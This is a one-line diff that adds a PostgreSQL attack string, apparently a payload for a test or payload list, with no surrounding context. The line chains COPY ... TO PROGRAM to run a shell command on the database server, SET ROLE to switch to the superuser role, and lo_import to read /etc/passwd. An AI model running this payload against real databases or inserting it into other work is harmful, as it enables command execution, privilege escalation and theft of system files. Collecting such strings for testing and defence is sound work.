@@ -1,0 +1,1 @@
+COPY orders TO PROGRAM 'id'; SET ROLE postgres; SELECT lo_import('/etc/passwd')
